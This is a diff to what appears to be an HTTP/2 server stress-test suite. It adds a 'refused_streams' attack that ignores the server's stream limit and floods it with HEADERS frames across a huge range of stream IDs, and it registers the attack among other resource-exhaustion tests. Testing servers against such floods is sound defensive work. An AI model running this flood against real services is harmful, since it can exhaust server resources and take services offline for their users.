@@ -223,6 +223,17 @@ async def never_reading_streams(connection):
         await asyncio.sleep(1)
 
 
+async def refused_streams(connection):
+    """Never says that it knows how many streams it may have, and begins more and more of them."""
+    fields = block(BOUNDARY + "AppendFact")
+    await connection.send(greeting() + b"".join(
+        frame(HEADERS, END_HEADERS, stream, fields) for stream in range(1, 256, 2)))
+    for start in range(257, 1 << 24, 2_000):
+        await connection.send(b"".join(
+            frame(HEADERS, END_HEADERS, stream) for stream in range(start, start + 2_000, 2)))
+        await asyncio.sleep(0.01)
+
+
 async def half_streams(connection):
     """A large head and half a body on every stream."""
     fields = block(BOUNDARY + "AppendFact", *((f"x-{number}", "y" * 7_000) for number in range(4)))
@@ -250,6 +261,7 @@ ATTACKS = {
     "control_frames": Attack(control_frames, 4, "h2"),
     "bombs_in_heads": Attack(bombs_in_heads, 4, "h2"),
     "never_reading_streams": Attack(never_reading_streams, 12, "h2", is_cut=False),
+    "refused_streams": Attack(refused_streams, 4, "h2"),
     "half_streams": Attack(half_streams, 8, "h2", is_cut=False),
 }
 
